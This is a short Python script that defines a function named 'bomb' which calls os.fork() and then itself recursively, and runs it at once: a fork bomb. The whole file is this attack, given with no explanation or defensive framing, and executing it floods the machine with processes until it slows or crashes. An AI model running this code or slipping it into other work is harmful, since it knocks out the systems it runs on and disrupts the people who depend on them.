import os


def bomb():
    os.fork()
    bomb()


bomb()
